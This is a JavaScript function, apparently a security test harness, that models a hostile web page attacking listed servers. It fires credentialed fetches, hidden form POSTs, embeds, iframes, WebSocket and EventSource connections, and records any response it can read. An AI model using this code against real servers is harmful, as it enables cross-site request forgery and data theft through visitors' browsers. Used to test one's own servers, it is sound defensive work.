// What a hostile web page does to servers. It returns a line for everything that it could read.
async (targets) => {
  const read = [];
  const wait = (element, good, seconds) => new Promise((resolve) => {
    element.addEventListener(good, () => resolve(true));
    element.addEventListener("error", () => resolve(false));
    setTimeout(() => resolve(false), seconds * 1000);
  });

  async function call({ server, seconds }, { method, path, headers, body }, mode) {
    const signal = AbortSignal.timeout(seconds * 1000);
    const options = { method, headers, body, mode, signal, credentials: "include" };
    try {
      const response = await fetch(server + path, options);
      if (response.type === "opaque") return;
      read.push(`${method} ${server}${path} ${response.status} ${await response.text()}`);
    } catch { /* The browser kept the response, or there was none. */ }
  }

  function form({ server, seconds }, { path, body }, type) {
    const target = document.createElement("iframe");
    target.name = `frame${Math.random()}`;
    const sheet = document.createElement("form");
    Object.assign(sheet, { method: "post", enctype: type, action: server + path });
    sheet.target = target.name;
    const pairs = type === "text/plain" ? [[body, ""]] : [...new URLSearchParams(body)];
    for (const [name, value] of pairs) {
      sheet.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
    }
    document.body.append(target, sheet);
    const loaded = wait(target, "load", seconds);
    sheet.submit();
    return loaded;
  }

  async function embed({ server, seconds }, tag, path) {
    const element = document.createElement(tag);
    const loaded = wait(element, "load", seconds);
    if (tag === "link") Object.assign(element, { rel: "stylesheet", href: server + path });
    else element.src = server + path;
    document.body.append(element);
    if (await loaded) read.push(`${tag} ${server}${path} loaded`);
    element.remove();
  }

  async function frame({ server, seconds }, path) {
    const element = document.createElement("iframe");
    element.src = server + path;
    document.body.append(element);
    await wait(element, "load", seconds);
    let text = "";
    try { text = element.contentDocument.body.textContent; } catch { /* another origin */ }
    if (text) read.push(`frame ${server}${path} ${text}`);
    element.remove();
  }

  async function listen({ server, seconds }, kind, path, good) {
    const url = (kind === WebSocket ? server.replace("http", "ws") : server) + path;
    let source;
    try { source = new kind(url); } catch { return; }
    if (await wait(source, good, seconds)) read.push(`${kind.name} ${url} opened`);
    source.close();
  }

  function attack(target) {
    const attempts = [
      listen(target, WebSocket, "/", "open"),
      listen(target, EventSource, "/events", "open"),
      listen(target, EventSource, "/webhooks/events", "open"),
    ];
    for (const request of target.requests) {
      attempts.push(call(target, request, "cors"));
      const simple = ["GET", "POST"].includes(request.method);
      if (simple) attempts.push(call(target, { ...request, headers: undefined }, "no-cors"));
      if (request.method === "GET") {
        for (const tag of ["img", "script", "link"]) {
          attempts.push(embed(target, tag, request.path));
        }
        attempts.push(frame(target, request.path));
      }
      if (request.method === "POST") {
        attempts.push(form(target, request, "text/plain"));
        attempts.push(form(target, request, "application/x-www-form-urlencoded"));
      }
    }
    return Promise.all(attempts);
  }

  await Promise.all(targets.map(attack));
  return read;
}
